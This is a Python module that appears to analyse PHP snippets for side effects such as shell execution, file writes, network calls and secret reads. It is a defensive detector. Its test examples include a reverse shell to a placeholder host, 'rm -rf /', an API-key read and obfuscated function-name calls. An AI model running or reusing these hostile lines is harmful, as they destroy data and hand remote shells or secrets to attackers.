"""PHP: function names are an accept-list, also where they are given as texts to be called back."""

from __future__ import annotations

import re

from autogate.effects import Effect, Kind, Outcome, RunShell
from autogate.knowledge.languages._calls import effects
from autogate.knowledge.languages._reader import NotReadError, Token, TokenReader
from autogate.knowledge.languages.common import (
    ENVIRONMENT,
    HOME,
    LIMIT,
    at_home,
    distinct,
    strip_markers,
    uncertain,
    unknown_part,
    variable_read,
    with_unknown,
)
from autogate.words.values import MANY, UNKNOWN, is_static

_KEYWORDS = frozenset(
    """abstract and array as break case catch class clone const continue declare default do echo else elseif empty enddeclare endfor
    endforeach endif endswitch endwhile exit die extends final finally fn for foreach function global if implements instanceof
    interface isset list match namespace new or print private protected public readonly return static switch throw trait try unset use
    var while xor yield true false null self parent int float string bool mixed void callable iterable object never strict_types this""".split()
)
_PURE = frozenset(
    """strlen count sizeof strtolower strtoupper ucfirst ucwords lcfirst trim ltrim rtrim chop str_replace str_ireplace substr substr_count
    substr_replace strpos stripos strrpos strripos strstr stristr strrchr str_repeat str_pad str_split explode implode join sprintf printf vsprintf
    vprintf number_format nl2br htmlspecialchars htmlentities html_entity_decode htmlspecialchars_decode addslashes stripslashes strip_tags
    strrev str_contains str_starts_with str_ends_with wordwrap chunk_split similar_text levenshtein soundex metaphone ucwords md5 sha1 crc32
    hash hash_algos hash_hmac base64_encode base64_decode bin2hex hex2bin urlencode urldecode rawurlencode rawurldecode http_build_query
    parse_url json_encode json_decode json_last_error json_last_error_msg serialize var_dump var_export print_r intval floatval
    strval boolval settype gettype is_array is_string is_int is_integer is_numeric is_null is_bool is_float is_object abs ceil floor round sqrt
    pow max min sum array_sum array_product rand mt_rand random_int random_bytes mt_srand srand intdiv fmod pi sin cos tan log log10 log2 exp
    is_nan is_infinite array_keys array_values array_merge array_merge_recursive array_combine array_flip array_slice array_splice array_unique
    array_reverse array_search in_array array_key_exists key_exists array_key_first array_key_last array_push array_pop array_shift array_unshift array_fill
    array_fill_keys array_column array_chunk array_pad array_diff array_diff_key array_diff_assoc array_intersect array_intersect_key array_rand
    array_count_values array_is_list range compact sort rsort asort arsort ksort krsort shuffle natsort natcasesort current key next prev reset end
    date gmdate time mktime strtotime checkdate date_default_timezone_set date_default_timezone_get microtime hrtime date_create date_diff
    preg_match preg_match_all preg_replace preg_split preg_quote preg_grep preg_last_error ctype_alpha ctype_digit ctype_alnum ctype_upper ctype_lower
    ctype_space ctype_punct ctype_xdigit mb_strlen mb_substr mb_strtoupper mb_strtolower mb_strpos mb_str_split mb_convert_encoding mb_detect_encoding
    mb_internal_encoding mb_convert_case mb_strwidth iconv utf8_encode utf8_decode chr ord dechex hexdec bindec decbin octdec decoct base_convert
    phpversion php_uname php_sapi_name zend_version memory_get_usage memory_get_peak_usage get_loaded_extensions extension_loaded function_exists
    class_exists method_exists defined ini_get php_ini_loaded_file php_ini_scanned_files sys_get_temp_dir getmypid getcwd gethostname get_current_user
    usleep sleep uniqid lcg_value fgets fgetc fread feof fclose fwrite fputs fputcsv fgetcsv fscanf fflush ftell fseek rewind fprintf stream_get_contents
    file_exists is_file is_dir is_link is_readable is_writable is_executable filesize filemtime fileatime filectime fileperms fileowner filetype stat
    basename dirname pathinfo realpath fnmatch disk_free_space disk_total_space ctype_cntrl iterator_to_array
    error_reporting set_time_limit gc_collect_cycles spl_object_id get_class get_object_vars gettimeofday localtime getdate idate cal_days_in_month easter_date
    version_compare password_verify password_hash password_get_info crypt ctype_graph str_word_count strcmp strcasecmp strncmp strncasecmp strnatcmp strnatcasecmp
    nl_langinfo localeconv setlocale money_format array_change_key_case array_flip array_replace vsprintf sscanf strtr ucwords lcg_value filter_var
    ctype_print is_callable is_iterable is_countable is_scalar func_get_args func_num_args gzcompress gzuncompress gzencode gzdecode gzdeflate gzinflate
    inet_pton inet_ntop ip2long long2ip checkdate openssl_random_pseudo_bytes hash_equals mb_substr_count mb_strrev ob_start ob_get_clean ob_end_clean ob_get_contents
    flush readline fdiv is_finite array_any_ error_get_last trigger_error headers_sent closedir readdir rewinddir get_debug_type
    php_ini_loaded_file enum_exists date_parse hrtime cli_get_process_title cli_set_process_title timezone_identifiers_list intl_get_error_code""".split()
)
_CALLBACKS = frozenset(
    """array_map array_filter array_reduce array_walk usort uasort uksort array_walk_recursive preg_replace_callback
    preg_replace_callback_array call_user_func call_user_func_array iterator_apply array_udiff array_uintersect array_diff_ukey
    register_shutdown_function set_error_handler set_exception_handler forward_static_call is_callable array_find array_any array_all""".split()
)
_EFFECTS = {
    "system": "shell", "exec": "shell", "shell_exec": "shell", "passthru": "shell", "popen": "shell", "proc_open": "shell", "pcntl_exec": "argv-list",
    "file_get_contents": "source", "file": "source", "readfile": "source", "fopen": "open", "fpassthru": "pure", "opendir": "read", "scandir": "read", "dir": "read",
    "parse_ini_file": "read", "simplexml_load_file": "read", "highlight_file": "read", "show_source": "read", "php_strip_whitespace": "read", "md5_file": "read", "sha1_file": "read",
    "hash_file": "read-second", "gzfile": "read", "readgzfile": "read", "gzopen": "open", "exif_read_data": "read", "getimagesize": "read", "glob": "pure", "readlink": "pure",
    "file_put_contents": "put", "touch": "create", "mkdir": "create", "tempnam": "create-in", "tmpfile": "pure", "unlink": "delete", "rmdir": "delete", "rename": "move",
    "copy": "copy", "move_uploaded_file": "move", "symlink": "link", "link": "link", "chmod": "mode", "chown": "owner", "chgrp": "owner", "lchown": "owner", "ftruncate": "pure",
    "fsockopen": "connect", "pfsockopen": "connect", "stream_socket_client": "connect", "stream_socket_server": "listen", "curl_init": "request", "gethostbyname": "request",
    "dns_get_record": "request", "get_headers": "request", "checkdnsrr": "request", "mail": "mail", "posix_kill": "process", "error_log": "error-log",
    "mysqli_query": "sql-second", "pg_query": "sql-second", "sqlite_query": "sql-second",
}  # fmt: skip
_CLASSES = frozenset(
    """DateTime DateTimeImmutable DateInterval DatePeriod DateTimeZone stdClass ArrayObject ArrayIterator Exception Error RuntimeException
    InvalidArgumentException LogicException SplStack SplQueue SplObjectStorage SplFixedArray SplPriorityQueue SplMinHeap SplMaxHeap JsonException
    NumberFormatter IntlDateFormatter WeakMap""".split()
)
_METHODS = frozenset(
    """format modify add sub diff getTimestamp setTimestamp setTimezone setDate setTime getMessage getCode getLine getFile getTraceAsString push pop
    shift unshift enqueue dequeue count current key next rewind valid toArray getArrayCopy append offsetGet offsetSet offsetExists createFromFormat
    getTimezone getOffset top isEmpty insert contains attach detach setSize getSize asXML children attributes format""".split()
)
_CONSTANTS = re.compile(
    r"(PHP_\w+|E_\w+|JSON_\w+|ENT_\w+|SORT_\w+|STR_PAD_\w+|PREG_\w+|M_\w+|FILE_\w+|LOCK_\w+|COUNT_\w+|ARRAY_FILTER_\w+|DATE_\w+|FILTER_\w+|STDIN|STDOUT|STDERR|TRUE|FALSE|NULL|DIRECTORY_SEPARATOR"
    r"|__(FILE|LINE|DIR|FUNCTION|CLASS|METHOD|NAMESPACE)__|LC_\w+|PATHINFO_\w+|GLOB_\w+|INF|NAN|SEEK_\w+|MB_CASE_\w+|DATETIME|CASE_\w+|PASSWORD_\w+)"
)
_SUPERGLOBALS = frozenset(("$_SERVER", "$_GET", "$_POST", "$_COOKIE", "$_FILES", "$_REQUEST", "$_SESSION"))

_token = re.compile(
    r"""(?P<space>(?:\s|//[^\n?]*(?:\?(?!>)[^\n?]*)*|\#(?!\[)[^\n?]*(?:\?(?!>)[^\n?]*)*|/\*(?:(?!\*/).)*\*/)+)
    |(?P<open><\?php\b|<\?=|\?>)
    |(?P<heredoc><<<)
    |(?P<single>'(?:[^'\\]|\\.)*')
    |(?P<double>"(?:[^"\\]|\\.)*")
    |(?P<command>`(?:[^`\\]|\\.)*`)
    |(?P<variable>\$[^\W0-9]\w*)
    |(?P<number>0[xXbBoO][0-9a-fA-F_]+|(?:[0-9][0-9_]*\.?[0-9_]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?)
    |(?P<name>\\?[^\W0-9]\w*(?:\\[^\W0-9]\w*)*)
    |(?P<op><=>|\*\*=|\.\.\.|<<=|>>=|===|!==|\?\?=|\?->|::|->|=>|\+\+|--|\*\*|==|!=|<>|<=|>=|&&|\|\||\?\?|<<|>>|[-+*/.%&|^]=|[-+*/%=<>!.~^&|?:;,(){}\[\]@$\#])
    """,
    re.VERBOSE | re.DOTALL,
)
_interpolation = re.compile(
    r"\\.|\{\$[^\W0-9]\w*(?:->\w+|\[(?:'[^'\\]*'|\d+|\$\w+|\"\w+\")\])*\}|\$\{[^\W0-9]\w*\}|\$[^\W0-9]\w*(?:->\w+|\[[-\w$]+\])?|\{\$|\$\{",
    re.DOTALL,
)


def outcomes(
    text: str, arguments: tuple[str, ...] = (), options: tuple[str, ...] = ()
) -> tuple[Outcome, ...]:
    """What the code does beyond computing and printing."""
    del options
    if len(text) > LIMIT:
        return (uncertain("php", "very long code"),)
    out: list[Outcome] = [] if is_static(text) else [unknown_part("php")]
    reader = _Reader(arguments)
    try:
        reader.tokenize(strip_markers(text))
    except NotReadError as problem:
        reader.doubt(str(problem))
    reader.read()
    return distinct([*(at_home(o) for o in reader.out), *out])


class _Reader(TokenReader):
    """Tokens first, then the calls."""

    language = "php"

    def __init__(self, arguments: tuple[str, ...]) -> None:
        super().__init__()
        self.arguments = arguments
        self.functions: set[str] = set()
        self.classes: set[str] = set()

    def tokenize(self, text: str) -> None:
        """Splits the code."""
        at = 0
        while at < len(text):
            match = _token.match(text, at)
            if match is None:
                raise NotReadError(f"the character {text[at]!r}")
            at = match.end()
            kind = match.lastgroup or ""
            word = match[0]
            if kind == "space" or (kind == "open" and word == "<?php" and not self.tokens):
                continue
            if kind in ("open", "heredoc"):
                raise NotReadError(word)
            if kind == "single":
                word = with_unknown(re.sub(r"\\([\\'])", r"\1", word[1:-1]))
                kind = "text"
            elif kind == "double":
                word = self._interpolated(word[1:-1])
                kind = "text"
            elif kind == "command":
                self.out.append(RunShell(self._interpolated(word[1:-1])))
                kind, word = "text", UNKNOWN
            elif kind == "name":
                word = word.lstrip("\\")
            self.tokens.append(Token(kind, word))

    def _interpolated(self, body: str) -> str:
        parts: list[str] = []
        at = 0
        for match in _interpolation.finditer(body):
            parts.append(body[at : match.start()])
            at = match.end()
            word = match[0]
            if word in ("{$", "${"):
                raise NotReadError("code in a text")
            if word[0] == "\\":
                parts.append(
                    {"n": "\n", "t": "\t", "r": "\r", "$": "$", '"': '"', "\\": "\\", "`": "`"}.get(
                        word[1], word if word[1] not in "xu01234567ve" else UNKNOWN
                    )
                )
            else:
                if "_ENV" in word or "GLOBALS" in word or "_SERVER" in word:
                    self.doubt(word)
                parts.append(UNKNOWN)
        parts.append(body[at:])
        return re.sub("\x00+", "\x00", with_unknown("".join(parts)))

    def read(self) -> None:
        """Looks at every token."""
        tokens = self.tokens
        for at, (kind, text) in enumerate(tokens):
            if kind == "name" and text.lower() == "function" and self.token(at + 1).kind == "name":
                self.functions.add(self.token(at + 1).text.lower())
            elif (
                kind == "name"
                and text.lower() == "function"
                and self.token(at + 1).text == "&"
                and self.token(at + 2).kind == "name"
            ):
                self.functions.add(self.token(at + 2).text.lower())
            elif (
                kind == "name"
                and text.lower() in ("class", "interface", "trait", "enum")
                and self.token(at - 1).text != "::"
            ):
                self.classes.add(self.token(at + 1).text.lower())
        self._assigned()
        for at, (kind, text) in enumerate(tokens):
            if kind == "name":
                self._name(at)
            elif kind == "variable":
                self._variable(at)
            elif kind == "op":
                if text == "$":
                    self.doubt("a variable by name")
                elif text == "(":
                    self._call(at)
                elif text == "{" and self.token(at - 1).text in ("->", "::", "?->"):
                    self.doubt("a member by name")
                elif text == "#":
                    self.doubt("an attribute")

    def _assigned(self) -> None:
        found: dict[str, str] = {}
        lost: set[str] = set()
        for at, (kind, text) in enumerate(self.tokens):
            if kind != "variable":
                continue
            following = self.token(at + 1).text
            if following == "=" and self.token(at + 1).kind == "op":
                value, end = self.token(at + 2), self.token(at + 3).text
                if (
                    value.kind in ("text", "number")
                    and end in (";", ",", ")", "")
                    and found.setdefault(text, value.text) == value.text
                ):
                    continue
                lost.add(text)
            elif (
                re.fullmatch(r"(\.|\+|-|\*|/|%|\?\?|\*\*|\||&|\^|<<|>>)=|\+\+|--", following)
                or self.token(at - 1).text in ("&", "as", "=>", "++", "--", "global", "static", "...")
                or following in ("]", "[", ",")
            ) and (following not in ("]", ",") or self.token(at - 1).text in ("[", "&", "list")):
                lost.add(text)
        if any(t.kind == "name" and t.text.lower() in ("extract", "parse_str", "eval") for t in self.tokens):
            found = {}
        self.values = {name: value for name, value in found.items() if name not in lost}

    def _variable(self, at: int) -> None:
        text = self.tokens[at].text
        following = self.token(at + 1)
        if text in ("$_ENV", "$GLOBALS"):
            key = self.token(at + 2)
            if (
                text == "$_ENV"
                and following.text == "["
                and key.kind == "text"
                and self.token(at + 3).text == "]"
            ):
                self.out.extend(variable_read(key.text))
            elif text == "$_ENV":
                self.out.append(Effect(Kind.SECRET, ENVIRONMENT))
            else:
                self.doubt(text)
        elif text == "$_SERVER":
            key = self.token(at + 2)
            if following.text == "[" and key.kind == "text":
                self.out.extend(variable_read(key.text))
            else:
                self.out.append(Effect(Kind.SECRET, ENVIRONMENT))
        if self.token(at - 1).text in ("new", "->", "::", "?->", "instanceof_"):
            self.doubt("a member by name")

    def _call(self, at: int) -> None:
        before = self.token(at - 1)
        if before.kind == "variable":
            if self.token(at - 2).text in ("->", "::"):
                return
            if not self._holds_closure(before.text):
                self.doubt("a call through a variable")
        elif before.kind == "text" or before.text in (")", "]", "}"):
            if before.text == ")" and before.kind == "op" and self._is_condition(at - 1):
                return
            if before.text == "}" and before.kind == "op":
                return  # after a block; after an expression in braces only as {$x}(…), which _token refuses
            self.doubt("a call of what is computed")

    def _holds_closure(self, name: str) -> bool:
        """Whether the variable only ever gets functions written in the code."""
        found = False
        for at, (kind, text) in enumerate(self.tokens):
            if kind == "variable" and text == name:
                following = self.token(at + 1).text
                if following == "=" and self.token(at + 1).kind == "op":
                    value = self.token(at + 2).text.lower()
                    value = self.token(at + 3).text.lower() if value == "static" else value
                    if value not in ("function", "fn"):
                        return False
                    found = True
                elif (
                    following not in ("(", ",", ")", ";", "]")
                    or self.token(at - 1).text in ("as", "=>", "&")
                    or self._is_parameter(at)
                ):
                    return False
        return found

    def _is_parameter(self, at: int) -> bool:
        index = at - 1
        while index >= 0 and self.tokens[index].text not in ("(", ";", "{", "}"):
            index -= 1
        return self.token(index).text == "(" and (
            self.token(index - 1).text.lower() in ("function", "fn")
            or self.token(index - 2).text.lower() == "function"
        )

    def _is_condition(self, at: int) -> bool:
        depth = 0
        for index in range(at, max(-1, at - 300), -1):
            if self.tokens[index].kind != "op":
                continue
            if self.tokens[index].text == ")":
                depth += 1
            elif self.tokens[index].text == "(":
                depth -= 1
                if depth == 0:
                    return self.token(index - 1).text.lower() in (
                        "if",
                        "while",
                        "for",
                        "foreach",
                        "switch",
                        "elseif",
                        "int",
                        "string",
                        "float",
                        "bool",
                    ) or self._is_cast(index)
        return False

    def _is_cast(self, at: int) -> bool:
        return (
            self.token(at + 1).text.lower()
            in ("int", "string", "float", "bool", "array", "object", "integer", "boolean", "double")
            and self.token(at + 2).text == ")"
        )

    def _name(self, at: int) -> None:
        text = self.tokens[at].text
        low = text.lower()
        before = self.token(at - 1)
        following = self.token(at + 1)
        if before.text in ("->", "?->"):
            if (following.text == "(" and text not in _METHODS and not self.classes) or (
                following.text == "(" and text not in _METHODS and low not in self.functions
            ):
                self.doubt(f"the method {text}")
            return
        if before.text == "::":
            if following.text == "(" and low not in self.functions and text not in _METHODS:
                self.doubt(f"the method {text}")
            return
        if (
            before.text.lower()
            in (
                "function",
                "class",
                "const",
                "interface",
                "trait",
                "extends",
                "implements",
                "instanceof",
                "catch",
                "namespace",
            )
            and before.kind == "name"
        ):
            if (
                before.text.lower() in ("extends", "implements")
                and text not in _CLASSES
                and low not in self.classes
            ):
                self.doubt(f"the class {text}")
            return
        if before.text.lower() == "new" and before.kind == "name":
            if text not in _CLASSES and low not in self.classes and low not in ("class", "self", "static"):
                self.doubt(f"new {text}")
            return
        if following.text == ":" and before.text in ("(", ",") and self.token(at + 2).text != ":":
            return  # a named argument
        if low in (
            "eval",
            "include",
            "require",
            "include_once",
            "require_once",
            "goto",
            "__halt_compiler",
            "assert",
            "create_function",
            "extract",
            "parse_str",
            "unserialize",
        ):
            values = self._arguments(at)
            if low == "eval":
                self.out.extend(effects("code", values, "php", low))
            elif low.startswith(("include", "require")):
                self.out.extend(effects("file", values, "php", low))
            else:
                self.doubt(low)
            return
        if low in _KEYWORDS:
            return
        if following.text == "(":
            self._function(at, low)
        elif following.text == "::":
            if text not in _CLASSES and low not in self.classes and low not in ("self", "static", "parent"):
                self.doubt(f"the class {text}")
        elif (
            _CONSTANTS.fullmatch(text)
            or low in self.classes
            or low in ("int", "string", "exception", "throwable", "closure", "error")
        ) or text in _CLASSES:
            return
        else:
            self.doubt(f"the name {text}")

    def _function(self, at: int, name: str) -> None:
        if name in self.functions:
            return
        if name in _PURE:
            if name == "preg_replace" and "e" in _flags(self.token(at + 2)):
                self.doubt("preg_replace with code")
            if name == "ob_start" and self.token(at + 2).text != ")":
                self.doubt("ob_start with a function")
            return
        if name in _CALLBACKS:
            self._callbacks(at, name)
            return
        values = self._arguments(at)
        if name == "getenv":
            if not values or values[0] == MANY:
                self.out.append(Effect(Kind.SECRET, ENVIRONMENT))
            else:
                self.out.extend(variable_read(values[0]))
            return
        if name == "define":
            return
        kind = _EFFECTS.get(name)
        if kind is None:
            self.doubt(f"the function {name}")
            return
        first = values[0] if values else UNKNOWN
        if kind == "source":
            if first in ("php://stdin", "php://input"):
                return
            self.out.extend(effects("download" if "://" in first else "read", values, "php", name))
        elif kind == "put":
            append = any(t.text == "FILE_APPEND" for t in self.tokens[at : at + 60])
            if first not in ("php://stdout", "php://stderr", "php://output"):
                self.out.extend(effects("append" if append else "write", values, "php", name))
        elif kind == "open":
            if first.startswith("php://") and first != "php://filter" and "resource" not in first:
                return
            if "://" in first and not first.startswith("file:"):
                self.out.extend(effects("download", values, "php", name))
            else:
                self.out.extend(effects("open", values, "php", name))
        elif kind == "read-second":
            self.out.extend(effects("read", values[1:], "php", name))
        elif kind == "sql-second":
            self.out.extend(effects("sql", values[1:], "php", name))
        elif kind == "argv-list":
            self.out.extend(effects("argv", [first, MANY] if len(values) > 1 else [first], "php", name))
        elif kind == "create-in":
            self.out.extend(effects("create", [first], "php", name))
        elif kind == "mail":
            self.out.append(Effect(Kind.NETWORK, first, "upload"))
        elif kind == "error-log":
            if len(values) > 1:
                self.doubt("error_log")
        else:
            if kind == "mode" and len(values) > 1:
                values = [values[0], values[1].lstrip("0o") or "0"]
            self.out.extend(effects(kind, values, "php", name))
            if name == "copy" and "://" in first:
                self.out.append(Effect(Kind.NETWORK, first, "download"))
            if kind == "connect" and any(
                o
                for o in self.tokens
                if o.text.lower() in ("exec", "shell_exec", "system", "proc_open", "passthru", "popen")
            ):
                self.out.append(Effect(Kind.NETWORK, first, "shell"))

    def _callbacks(self, at: int, name: str) -> None:
        """Functions given as texts are called by that name."""
        groups = self._groups(at + 1)
        if name == "is_callable":
            return
        sure = False
        for group in groups:
            tokens = self.tokens[group[0] : group[1]]
            if not tokens:
                continue
            head = tokens[0]
            word = (
                tokens[1].text.lower()
                if head.text.lower() == "static" and len(tokens) > 1
                else head.text.lower()
            )
            if word in ("function", "fn"):
                sure = True
            elif len(tokens) == 1 and head.kind == "text":
                low = head.text.lower()
                if low in _PURE or low in self.functions:
                    sure = True
                elif low in _EFFECTS:
                    self.out.extend(
                        effects(_EFFECTS[low] if "-" not in _EFFECTS[low] else "code", [MANY], "php", low)
                    )
                    sure = True
            elif len(tokens) == 1 and head.kind == "variable" and self._holds_closure(head.text):
                sure = True
        position = {
            "array_map": 0,
            "call_user_func": 0,
            "call_user_func_array": 0,
            "register_shutdown_function": 0,
            "set_error_handler": 0,
            "set_exception_handler": 0,
            "forward_static_call": 0,
        }.get(name, 1)
        if name == "array_filter" and len(groups) == 1:
            return
        given = self.tokens[groups[position][0] : groups[position][1]] if position < len(groups) else []
        plain = (
            len(given) == 1
            and given[0].kind == "text"
            and (
                given[0].text.lower() in _PURE
                or given[0].text.lower() in self.functions
                or given[0].text.lower() in _EFFECTS
            )
        )
        closure = bool(given) and (
            given[0].text.lower() in ("function", "fn", "static")
            or (given[0].kind == "variable" and len(given) == 1 and self._holds_closure(given[0].text))
        )
        if not sure or not (plain or closure):
            self.doubt(f"{name} with a function that is computed")

    def _groups(self, start: int) -> list[tuple[int, int]]:
        """The arguments of a call, as ranges of tokens."""
        if self.token(start).text != "(":
            return []
        out: list[tuple[int, int]] = []
        depth = 0
        first = start + 1
        for at in range(start, min(len(self.tokens), start + 300)):
            kind, text = self.tokens[at]
            if kind != "op":
                continue
            if text in ("(", "[", "{"):
                depth += 1
            elif text in (")", "]", "}"):
                depth -= 1
                if depth == 0:
                    if first < at:
                        out.append((first, at))
                    return out
            elif text == "," and depth == 1:
                out.append((first, at))
                first = at + 1
        return out

    def _arguments(self, at: int) -> list[str]:
        if self.token(at + 1).text == "(":
            groups = self._groups(at + 1)
        else:
            end = next(
                (
                    i
                    for i in range(at + 1, min(len(self.tokens), at + 100))
                    if self.tokens[i].text in (";", ")")
                ),
                len(self.tokens),
            )
            groups = [(at + 1, end)]
        return [self._value(self.tokens[first:end]) for first, end in groups]

    def _value(self, tokens: list[Token]) -> str:
        parts: list[str] = []
        if tokens and tokens[0].text == "...":
            return MANY
        if [t.text for t in tokens[:4]] == ["getenv", "(", "HOME", ")"]:
            return HOME + (self._value(tokens[5:]) if len(tokens) > 5 else "")
        if (
            len(tokens) == 4
            and tokens[0].text == "$argv"
            and tokens[2].kind == "number"
            and tokens[2].text.isdigit()
        ):
            index = int(tokens[2].text) - 1
            return (
                self.arguments[index]
                if 0 <= index < len(self.arguments) and MANY not in self.arguments[: index + 1]
                else UNKNOWN
            )
        expects = True
        for kind, text in tokens:
            if kind == "op" and text == "." and not expects:
                expects = True
            elif expects and kind in ("text", "number"):
                parts.append(text)
                expects = False
            elif expects and kind == "variable":
                parts.append(self.values.get(text, UNKNOWN))
                expects = False
            else:
                return UNKNOWN
        return re.sub("\x00+", "\x00", "".join(parts)) if parts and not expects else UNKNOWN


def _flags(pattern: Token) -> str:
    """The letters behind a pattern given as a text."""
    if pattern.kind != "text" or not pattern.text:
        return ""
    closing = {"(": ")", "[": "]", "{": "}", "<": ">"}.get(pattern.text[0], pattern.text[0])
    return pattern.text.rpartition(closing)[2]


EXAMPLES: tuple[tuple[str, str], ...] = (
    ("echo 1 + 1;", ""),
    ("echo json_encode(['a' => 1], JSON_PRETTY_PRINT), PHP_EOL;", ""),
    ('foreach ([1, 2] as $i) { echo "$i\\n"; }', ""),
    ("print_r(array_map(fn($x) => $x * 2, range(1, 3)));", ""),
    ("echo array_sum(array_map('intval', explode(',', '1,2')));", ""),
    ("echo PHP_VERSION, phpversion();", ""),
    ("echo file_get_contents('a.txt');", "read a.txt"),
    ("echo file_get_contents('https://x.example');", "network download https://x.example"),
    ("file_put_contents('a.txt', 'x', FILE_APPEND);", "write append a.txt"),
    ("unlink('a' . '.txt');", "delete a.txt"),
    ("system('rm -rf /');", "shell 'rm -rf /'"),
    ("echo `id`;", "shell 'id'"),
    ("$f = 'sys' . 'tem'; $f('id');", "execute a call through a variable inline php code !uncertain"),
    ("('sys' . 'tem')('id');", "execute a call of what is computed inline php code !uncertain"),
    ("'system'('id');", "execute a call of what is computed inline php code !uncertain"),
    ("array_map('system', ['id']);", "shell '…'"),
    ("array_map('sys' . 'tem', ['id']);", "execute array_map with a function that is computed inline php code !uncertain"),
    ("eval('unlink(\"x\");');", "code php 'unlink(\"x\");'"),
    ("echo getenv('API_KEY');", "secret $API_KEY"),
    ("include 'x.php';", "file php x.php"),
    ("pcntl_exec('/bin/sh');", "shell '/bin/sh'"),
    ('$sock=fsockopen("h.example",4444);exec("/bin/sh -i 0<&3 1>&3 2>&3");', "network connect h.example; network shell h.example; shell '/bin/sh -i 0<&3 1>&3 2>&3'"),
)  # fmt: skip
